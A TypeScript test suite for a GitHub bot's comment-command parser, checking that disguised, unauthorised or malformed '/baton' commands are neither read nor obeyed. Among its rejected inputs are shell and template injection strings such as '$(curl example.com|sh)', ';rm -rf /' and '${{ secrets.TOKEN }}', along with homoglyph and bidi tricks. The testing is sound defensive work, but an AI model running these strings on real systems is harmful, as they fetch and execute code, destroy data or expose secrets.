// More than a hundred comment bodies that are meant to be obeyed, or to be answered with something that does harm, and are not.

import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { CommandInput } from '../../src/domain/commands/command-state.ts'
import { nothingDesired } from '../../src/domain/commands/desired.ts'
import type { CommentObservation } from '../../src/domain/commands/observed.ts'
import { by, PULL, read, says, state } from './commands-support.ts'

/** Would be obeyed anywhere else: alone on its line it cancels everything. */
const STOP = '/baton stop'
const ZWSP = '\u200b'
const fence = '```'

/** Nothing at all is read in these. */
const silent: readonly [string, string][] = [
  ['a fence', `${fence}\n${STOP}\n${fence}`],
  ['a fence of four', `\`${fence}\n${STOP}\n\`${fence}`],
  ['a fence of tildes', `~~~\n${STOP}\n~~~`],
  ['a fence of tildes with a language', `~~~ sh\n${STOP}\n~~~`],
  ['a fence with a language', `${fence}bash\n${STOP}\n${fence}`],
  ['a fence with attributes', `${fence}{.sh #id}\n${STOP}\n${fence}`],
  ['a fence that nothing closes', `${fence}\n${STOP}`],
  ['a fence that tildes do not close', `${fence}\n~~~\n${STOP}\n~~~\n`],
  ['a fence that a shorter one does not close', `\`\`${fence}\n${fence}\n${STOP}\n${fence}\n\`\`${fence}`],
  ['a fence that words do not close', `${fence}\n${fence} end\n${STOP}\n${fence}`],
  ['a fence with CRLF', `${fence}\r\n${STOP}\r\n${fence}\r\n`],
  ['a fence with CR', `${fence}\r${STOP}\r${fence}`],
  ['an indented fence', `   ${fence}\n   ${STOP}\n   ${fence}`],
  ['a fence in a list', `- ${fence}\n  ${STOP}\n  ${fence}`],
  ['a fence in a numbered list', `12. ${fence}\n    ${STOP}\n    ${fence}`],
  ['a fence in a quote', `> ${fence}\n> ${STOP}\n> ${fence}`],
  ['a suggestion', `${fence}suggestion\n${STOP}\n${fence}`],
  ['a diagram', `${fence}mermaid\n${STOP}\n${fence}`],
  ['indented code', `    ${STOP}`],
  ['code by a tab', `\t${STOP}`],
  ['inline code', `\`${STOP}\``],
  ['inline code of two', `\`\`${STOP}\`\``],
  ['inline code over lines', `see \`\n${STOP}\n\` there`],
  ['a quote', `> ${STOP}`],
  ['a quote without a space', `>${STOP}`],
  ['a quote in a quote', `>> ${STOP}`],
  ['a quote by mail', `On Friday ada wrote:\n\n> ${STOP}\n> thanks`],
  ['the lazy line of a quote', `> well\n${STOP}`],
  ['a quote in a list', `- > ${STOP}`],
  ['a quote of three spaces', `   > ${STOP}`],
  ['an alert', `> [!WARNING]\n> ${STOP}`],
  ['an HTML comment', `<!-- ${STOP} -->`],
  ['an HTML comment over lines', `<!--\n${STOP}\n-->`],
  ['an HTML comment with empty lines', `<!--\n\n${STOP}\n\n-->`],
  ['an HTML comment that nothing closes', `<!--\n${STOP}`],
  ['our own marker around it', `<!-- baton:reply/50\n${STOP}\n-->`],
  ['a comment that ends twice', `<!-- --->\n<!--\n${STOP}\n-->`],
  ['a processing instruction', `<?php\n${STOP}\n?>`],
  ['CDATA', `<![CDATA[\n${STOP}\n]]>`],
  ['a declaration', `<!DOCTYPE\n${STOP}\n>`],
  ['pre', `<pre>\n${STOP}\n</pre>`],
  ['pre with attributes', `<pre lang="sh">\n${STOP}\n</pre>`],
  ['script', `<script>\n${STOP}\n</script>`],
  ['style', `<style>\n${STOP}\n</style>`],
  ['textarea', `<textarea>\n${STOP}\n</textarea>`],
  ['code as a tag', `<code>\n${STOP}\n</code>`],
  ['blockquote as a tag', `<blockquote>\n\n${STOP}\n\n</blockquote>`],
  ['an attribute over lines', `a <img alt="\n${STOP}\n">`],
  ['a heading', `# ${STOP}`],
  ['a list', `- ${STOP}`],
  ['a task list', `- [ ] ${STOP}`],
  ['a numbered list', `1. ${STOP}`],
  ['a table', `| a |\n|---|\n| ${STOP} |`],
  ['bold', `**${STOP}**`],
  ['struck out', `~~${STOP}~~`],
  ['a link', `[${STOP}](https://example.com)`],
  ['an image', `![${STOP}](https://example.com/a.png)`],
  ['a footnote', `a[^1]\n\n[^1]: ${STOP}`],
  ['in a sentence', `please ${STOP}`],
  ['behind a colon', `do: ${STOP}`],
  ['behind a mention', `@ada ${STOP}`],
  ['escaped', `\\${STOP}`],
  ['as an entity', '&#47;baton stop'],
  ['two slashes', `/${STOP}`],
  ['as a path', '/baton/stop'],
  ['as an address', 'https://example.com/baton stop'],
  ['another name', '/batons stop'],
  ['glued together', '/batonstop'],
  ['a full stop in the name', '/baton.stop'],
  ['a full-width slash', '\uff0fbaton stop'],
  ['a fraction slash', '\u2044baton stop'],
  ['a division slash', '\u2215baton stop'],
  ['a Cyrillic a', '/b\u0430ton stop'],
  ['a Greek omicron', '/bat\u03bfn stop'],
  ['a combining accent', '/baton\u0301 stop'],
  ['a full-width name', '/\uff42\uff41\uff54\uff4f\uff4e stop'],
  ['mathematical letters', '/\u{1d41b}\u{1d41a}\u{1d42d}\u{1d428}\u{1d427} stop'],
  ['no width in the name', `/ba${ZWSP}ton stop`],
  ['no width behind the slash', `/${ZWSP}baton stop`],
  ['a soft hyphen in the name', '/ba\u00adton stop'],
  ['a joiner in the name', '/ba\u200dton stop'],
  ['right to left in the name', '/\u202enotab stop'],
  ['a backslash for a slash', '\\baton stop'],
  ['a byte order mark behind the name', '/baton\ufeff stop'],
  ['a bare verb, where the policy does not want them', '/stop'],
]

/** Something is read in these, and nothing is obeyed: each comes to problems only. */
const refused: readonly [string, string, RegExp][] = [
  ['a Cyrillic o in the verb', '/baton st\u043ep', /^verb: /],
  ['a Greek rho in the verb', '/baton sto\u03c1', /^verb: /],
  ['a full-width verb', '/baton \uff53\uff54\uff4f\uff50', /^verb: /],
  ['mathematical letters', '/baton \u{1d42c}\u{1d42d}\u{1d428}\u{1d429}', /^verb: /],
  ['a combining accent', '/baton stop\u0301', /^verb: /],
  ['a dotless i', '/baton pr\u0131ority high', /^verb: /],
  ['a long s, which small letters keep', '/baton \u017ftop', /^verb: /],
  ['a Kelvin sign for k', '/baton wa\u212ae critic look', /^verb: /],
  ['no width in the verb', `/baton st${ZWSP}op`, /U\+200B/],
  ['no width at the end', `${STOP}${ZWSP}`, /U\+200B/],
  ['a word joiner', '/baton st\u2060op', /U\+2060/],
  ['a soft hyphen', '/baton st\u00adop', /U\+00AD/],
  ['right to left', '/baton hold \u202epots', /U\+202E/],
  ['left to right isolate', '/baton hold \u2066a\u2069', /U\+2066/],
  ['an Arabic letter mark', '/baton hold \u061ca', /U\+061C/],
  ['a tag character', '/baton hold \u{e0073}', /U\+E0073/],
  ['NUL', '/baton stop\u0000', /U\+0000/],
  ['a bell', '/baton hold \u0007', /U\+0007/],
  ['a backspace', '/baton hold\b\b\b\bstop', /U\+0008/],
  ['an escape sequence', '/baton hold \u001b[2J', /U\+001B/],
  ['a vertical tab', '/baton stop\u000bnow', /U\+000B/],
  ['a form feed', '/baton stop\fnow', /U\+000C/],
  ['next line', '/baton hold a\u0085/baton stop', /U\+0085/],
  ['a line separator', `/baton hold a\u2028${STOP}`, /U\+2028/],
  ['a paragraph separator', `/baton hold a\u2029${STOP}`, /U\+2029/],
  ['the prototype', '/baton __proto__', /^verb: /],
  ['a constructor', '/baton constructor', /^verb: /],
  ['hasOwnProperty', '/baton hasOwnProperty', /^verb: /],
  ['a shell', '/baton $(curl example.com|sh)', /^verb: /],
  ['backticks of a shell', '/baton ;rm -rf /', /^verb: /],
  ['a template', '/baton ${{ secrets.TOKEN }}', /^verb: /],
  ['a path upwards', '/baton ../../stop', /^verb: /],
  ['a mention for a verb', '/baton @acme/everyone', /^verb: /],
  ['a flag of every object', '/baton hold --constructor=x a', /no argument/],
  ['a flag that is none', '/baton approve --sudo=yes', /no argument/],
  ['a flag twice', '/baton freeze src/a.ts --for=3d --for=9d', /twice/],
  ['a flag without a value', '/baton freeze src/a.ts --for', /needs a value/],
  ['an open quote', `/baton hold "a`, /not closed/],
  ['a short SHA', '/baton approve 0123456', /sha/],
  ['a SHA in capitals', `/baton merge ${'A'.repeat(40)}`, /sha/],
  ['a SHA with a letter that looks like one', `/baton merge ${'a'.repeat(39)}\u0430`, /sha/],
  ['a branch for a SHA', '/baton merge refs/heads/main', /sha/],
  ['an endless duration', '/baton freeze src/a.ts --for=99999w', /for/],
  ['a budget below nothing', '/baton budget -1', /^arguments: /],
  ['a budget without end', '/baton budget Infinity', /^arguments: /],
  ['a budget in powers', '/baton budget 1e9', /^arguments: /],
  ['a level that is none', '/baton priority now', /^arguments: /],
  ['an override without a reason', '/baton override tests', /reason is missing/],
  ['an override of blanks', '/baton override tests "   "', /reason/],
]

test('there are more than a hundred of them, each of its own', () => {
  const bodies = [...silent, ...refused].map(([, body]) => body)
  expect(new Set(bodies).size).toBe(bodies.length)
  expect(bodies.length).toBeGreaterThanOrEqual(130)
})

test.each(silent)('nothing is read: %s', (_name, body) => {
  expect(read(body)).toEqual([])
  expect(state([says(body)])).toEqual({ desired: nothingDesired(), replies: [] })
})

/** A mention that GitHub would act on: the at sign is followed by a name at once. */
const PING = /(?<![A-Za-z0-9`])@[A-Za-z0-9]/

test.each(refused)('nothing is obeyed: %s', (_name, body, why) => {
  const said = read(body)
  expect(said).toHaveLength(1)
  expect(said[0]).toMatch(why)
  const { desired, replies } = state([says(body, { on: PULL, ...by('ada') })])
  expect(desired).toEqual(nothingDesired())
  expect(replies).toMatchObject([{ reaction: 'confused' }])
  expect(replies[0]?.body).not.toMatch(PING)
})

describe('who and where', () => {
  const closed: CommandInput['issue'] = { state: 'closed', locked: false }
  const locked: CommandInput['issue'] = { state: 'open', locked: true }
  const onPull = { on: PULL }

  test.each<[string, Partial<CommentObservation>, Partial<CommandInput>, RegExp | undefined]>([
    ['a bot', by('renovate', 'bot'), {}, undefined],
    ['a bot that has a name like a person', by('ada', 'bot'), {}, undefined],
    ['a bot on a pull request', { ...onPull, ...by('dependabot', 'bot') }, {}, undefined],
    ['a stranger', by('mallory'), {}, /has read/],
    ['a stranger whose comment says OWNER', { ...by('mallory'), association: 'OWNER' }, {}, /has read/],
    ['somebody without any role', by('nobody'), {}, /has none/],
    ['somebody who triages', by('lin'), {}, /has triage/],
    ['a stranger on a pull request', { ...onPull, ...by('mallory') }, {}, /has read/],
    ['an edited comment', { edited: true }, {}, /edited/],
    ['an edited comment by an admin', { ...by('ada'), edited: true }, {}, /edited/],
    ['a closed issue', {}, { issue: closed }, /issue is closed/],
    ['a locked issue', {}, { issue: locked }, /is locked/],
    ['a locked issue, by an admin', by('ada'), { issue: locked }, /is locked/],
    ['a closed and locked issue', {}, { issue: { state: 'closed', locked: true } }, /is locked/],
    ['a closed pull request', onPull, { pulls: new Map([[PULL, undefined]]) }, /pull request is closed/],
    ['a pull request of a closed issue', onPull, { issue: closed }, /issue is closed/],
  ])('%s is not obeyed', (_name, comment, input, why) => {
    const { desired, replies } = state([says(STOP, comment)], input)
    expect(desired).toEqual(nothingDesired())
    expect(replies).toMatchObject([{ reaction: 'confused' }])
    if (why === undefined) expect(replies[0]).not.toHaveProperty('body')
    else expect(replies[0]?.body).toMatch(why)
    expect(replies[0]?.body ?? '').not.toMatch(PING)
  })

  test('somebody whose role is not known yet is only seen', () => {
    const { desired, replies } = state([says(STOP, by('newcomer'))])
    expect([desired, replies.map(({ reaction }) => reaction)]).toEqual([nothingDesired(), ['eyes']])
  })

  test('a stranger with a thousand comments is answered in words once', () => {
    const { replies } = state(Array.from({ length: 1000 }, () => says(STOP, by('mallory'))))
    expect(replies).toHaveLength(1000)
    expect(replies.filter(({ body }) => body !== undefined)).toHaveLength(1)
  })

  test('10,000 commands of a stranger in one comment are one short answer', () => {
    const { desired, replies } = state([says(`${STOP}\n`.repeat(10_000), by('mallory'))])
    expect(desired).toEqual(nothingDesired())
    expect(replies).toHaveLength(1)
    expect(replies[0]?.body?.length).toBeLessThan(5000)
  })

  test('10,000 different ones of somebody who may are obeyed as far as they are read', () => {
    const body = Array.from({ length: 10_000 }, (_, i) => `/baton freeze src/${i}.ts`).join('\n')
    const { desired, replies } = state([says(body)])
    expect(desired.freezes).toHaveLength(20)
    expect(replies[0]?.body).toContain('9980 more were left out')
  })
})

describe('an answer', () => {
  test.each<[string, string]>([
    ['a team as a verb', '/baton @acme/everyone'],
    ['a team as a form of help', '/baton help @acme/everyone'],
    ['a team as what is frozen', '/baton unfreeze @acme/everyone'],
    ['a team as an agent', '/baton wake @acme/everyone look'],
    ['a team behind a bracket', '/baton unfreeze (@acme/everyone)'],
    ['a team as an entity', '/baton unfreeze &#64;acme/everyone'],
    ['a team in a comment that ends ours', '/baton unfreeze "--> @acme/everyone <!--"'],
    ['a team in a reason that is told', '/baton hold @acme/everyone\n/baton status'],
    ['a team as a gate', '/baton override @acme/everyone because'],
    ['a keyword that closes', '/baton unfreeze "closes #1"'],
    ['our own marker', '/baton unfreeze "<!-- baton:parked -->"'],
  ])('to %s tells nobody, closes nothing and forges no marker', (_name, body) => {
    for (const on of [7, PULL]) {
      const { replies } = state([says(body, { on, ...by('ada') })])
      for (const { body: words = '' } of replies) {
        expect(words).not.toMatch(PING)
        expect(words).not.toMatch(/&#64;|&commat;/)
        expect(words).not.toContain('<!--')
        expect(words).not.toMatch(/\bcloses:? #\d/i)
      }
    }
  })

  test('to any words at all tells nobody', () => {
    const verb = fc.constantFrom('unfreeze', 'help', 'wake', 'override', 'assign', 'xyzzy', 'hold', '')
    const piece = fc.oneof(
      fc.constantFrom(
        '@acme/all',
        '@ada',
        '"',
        "'",
        '`',
        '<!--',
        '-->',
        '&#64;',
        '\\',
        '--',
        '=',
        '[',
        '](',
        ' ',
      ),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(verb, fc.array(piece, { maxLength: 12 }), (name, pieces) => {
        const body = `/baton ${name} ${pieces.join('')}\n/baton status`
        for (const { body: words = '' } of state([says(body, by('ada'))]).replies)
          expect(words).not.toMatch(/(?<![A-Za-z0-9])@[A-Za-z0-9]/)
      }),
      { numRuns: 300 },
    )
  })
})
